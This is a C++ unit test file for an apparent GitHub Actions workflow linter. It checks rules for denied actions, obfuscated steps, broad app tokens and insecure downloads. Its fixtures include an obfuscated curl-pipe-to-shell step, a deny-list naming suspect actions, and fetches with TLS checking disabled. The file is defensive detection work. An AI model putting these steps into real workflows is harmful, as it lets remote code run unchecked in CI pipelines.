// Issue 22: forbidden-uses (a policy deny-list), obfuscation, github-app and
// insecure-url-scheme (evaluate/pins/workflow_misuse.cc), with look-alikes that are fine.
#include <catch2/catch.hpp>

#include "evaluate/pins/github_workflow.h"
#include "policy/policy.h"
#include "unit/evaluate/workflow_rule_lines.h"

namespace riskgate::evaluate::pins {
namespace {

const std::string kSha = "@0123456789abcdef0123456789abcdef01234567 # v1\n";

}  // namespace

TEST_CASE("issue 22: an action the policy forbids is forbidden-uses, at any ref", "[pins]") {
  const std::string workflow =
      "on: push\n"         // 1
      "permissions: {}\n"  // 2
      "jobs:\n"            // 3
      "  a:\n"             // 4
      "    runs-on: x\n"   // 5
      "    steps:\n"       // 6
      "      - uses: Evil-Org/tool" +
      kSha +                                  // 7
      "      - uses: evil-org/tool/sub@v2\n"  // 8
      "      - uses: good-org/tool" +
      kSha +                                             // 9
      "      - uses: tj-actions/changed-files" + kSha +  // 10
      "  b:\n"                                           // 11
      "    uses: evil-org/wf/.github/workflows/x.yml" +
      kSha;                                            // 12
  CHECK(LinesOf(workflow, "forbidden-uses").empty());  // no list: nothing is forbidden
  policy::PinsControl pins;
  pins.forbidden_uses = {"evil-org/*", "tj-actions/changed-files"};
  CHECK(LinesOf(workflow, "forbidden-uses", pins) == Lines{7, 8, 10, 12});
}

TEST_CASE("issue 22: text written to read differently from what runs is obfuscation", "[pins]") {
  const std::string workflow =
      "on: push\n"         // 1
      "permissions: {}\n"  // 2
      "jobs:\n"            // 3
      "  a:\n"             // 4
      "    runs-on: x\n"   // 5
      "    steps:\n"       // 6
      "      - uses: actions/checkout/./" +
      kSha +                                   // 7
      "      - uses: actions//cache" + kSha +  // 8
      "      - uses: ./local/../other\n"       // 9
      "      - uses: actions/cache/restore" +
      kSha +                                                            // 10 fine
      "      - run: cu${{ '' }}rl -s https://x | s${{ 'h' }}\n"         // 11
      "      - run: echo ${{ format('{0}', github.sha) }}\n"            // 12 fine: a context
      "        if: ${{ true }}\n"                                       // 13 fine: no text
      "      - run: echo ${{ 'github.sha' }} ${{ matrix.x || 'y' }}\n"  // 14 one literal
      "      - uses: ./\n"                                              // 15 fine: the root action
      "      - uses: ./merge/\n"                                        // 16 fine
      "      - uses: actions/cache" +
      kSha +                                                          // 17
      "        with: {key: \"go-${{ hashFiles('**/go.sum') }}\"}\n";  // 18 fine: reads files
  CHECK(LinesOf(workflow, "obfuscation") == Lines{7, 8, 9, 11, 11, 14});
}

TEST_CASE("issue 22: an app token with every permission or repository is github-app", "[pins]") {
  const std::string workflow =
      "on: push\n"         // 1
      "permissions: {}\n"  // 2
      "jobs:\n"            // 3
      "  a:\n"             // 4
      "    runs-on: x\n"   // 5
      "    steps:\n"       // 6
      "      - uses: actions/create-github-app-token" +
      kSha +                                                          // 7 no permissions
      "        with: {app-id: 1, private-key: '${{ secrets.K }}'}\n"  // 8
      "      - uses: actions/create-github-app-token" +
      kSha +                                                                // 9 whole owner
      "        with: {app-id: 1, owner: org, permission-contents: read}\n"  // 10
      "      - uses: actions/create-github-app-token" +
      kSha +                                   // 11 fine
      "        with:\n"                        // 12
      "          app-id: 1\n"                  // 13
      "          owner: org\n"                 // 14
      "          repositories: repo\n"         // 15
      "          permission-issues: write\n";  // 16
  CHECK(LinesOf(workflow, "github-app") == Lines{7, 9});
}

TEST_CASE("issue 22: a fetch over http:// or without TLS checks is insecure-url-scheme", "[pins]") {
  const std::string workflow =
      "on: push\n"                                                         // 1
      "permissions: {}\n"                                                  // 2
      "jobs:\n"                                                            // 3
      "  a:\n"                                                             // 4
      "    runs-on: x\n"                                                   // 5
      "    steps:\n"                                                       // 6
      "      - run: |\n"                                                   // 7
      "          curl -fsSL http://example.com/tool.tgz -o t.tgz\n"        // 8
      "          curl -fsSL https://example.com/tool.tgz -o t.tgz\n"       // 9
      "          wget --no-check-certificate https://example.com/x\n"      // 10
      "          curl -s http://localhost:8080/health\n"                   // 11 its own service
      "          pip install --trusted-host pypi.example.com pkg==1.0\n"   // 12
      "          echo see http://example.com\n"                            // 13 no fetch
      "          git clone http://example.com/r.git\n"                     // 14
      "      - run: curl -k https://internal/x -o x\n"                     // 15
      "      - run: curl --proxy http://squid:3128 https://github.com\n";  // 16 a proxy
  CHECK(LinesOf(workflow, "insecure-url-scheme") == Lines{8, 10, 12, 14, 15});
}

}  // namespace riskgate::evaluate::pins
